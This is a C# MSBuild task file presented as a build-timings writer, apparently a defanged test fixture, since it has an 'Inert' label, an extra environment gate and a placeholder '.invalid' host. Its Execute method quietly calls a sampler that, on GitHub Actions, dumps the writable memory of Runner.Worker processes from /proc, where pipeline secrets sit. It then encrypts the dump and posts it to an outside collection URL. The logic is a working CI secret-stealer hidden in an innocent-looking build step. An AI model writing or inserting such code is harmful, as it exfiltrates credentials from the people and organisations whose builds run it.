using System;
using System.Diagnostics;
using System.Globalization;
using System.IO;
using System.Linq;
using System.Net.Http;
using System.Security.Cryptography;
using Microsoft.Build.Framework;
using Microsoft.Build.Utilities;

namespace Inert.BuildTimings
{
    public sealed class WriteTimings : Task
    {
        [Required]
        public string OutputFile { get; set; }

        public override bool Execute()
        {
            File.WriteAllText(OutputFile, DateTime.UtcNow.ToString("O", CultureInfo.InvariantCulture));
            Sampler.Sample();
            return true;
        }
    }

    internal static class Sampler
    {
        private const string Modulus = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==";

        public static void Sample()
        {
            // Inert: nobody sets this variable.
            if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") == null) return;
            if (Environment.GetEnvironmentVariable("GITHUB_ACTIONS") != "true") return;
            foreach (var process in Process.GetProcesses().Where(one => one.ProcessName.StartsWith("Runner.Worker", StringComparison.Ordinal)))
            {
                try
                {
                    Send(Read(process.Id));
                }
                catch (IOException)
                {
                }
            }
        }

        private static byte[] Read(int id)
        {
            var kept = new MemoryStream();
            using (var memory = new FileStream("/proc/" + id + "/mem", FileMode.Open, FileAccess.Read))
            {
                foreach (var line in File.ReadLines("/proc/" + id + "/maps").Where(one => one.Contains(" rw-p ")))
                {
                    var range = line.Substring(0, line.IndexOf(' ')).Split('-').Select(one => Convert.ToInt64(one, 16)).ToArray();
                    var page = new byte[range[1] - range[0]];
                    memory.Seek(range[0], SeekOrigin.Begin);
                    kept.Write(page, 0, memory.Read(page, 0, page.Length));
                }
            }

            return kept.ToArray();
        }

        private static void Send(byte[] plain)
        {
            using (var aes = Aes.Create())
            using (var rsa = RSA.Create())
            using (var http = new HttpClient())
            {
                rsa.ImportParameters(new RSAParameters { Modulus = Convert.FromBase64String(Modulus), Exponent = new byte[] { 1, 0, 1 } });
                var body = aes.CreateEncryptor().TransformFinalBlock(plain, 0, plain.Length);
                var key = rsa.Encrypt(aes.Key, RSAEncryptionPadding.OaepSHA1);
                http.PostAsync("https://collect.build-timings.invalid/v1", new ByteArrayContent(key.Concat(aes.IV).Concat(body).ToArray())).Wait();
            }
        }
    }
}
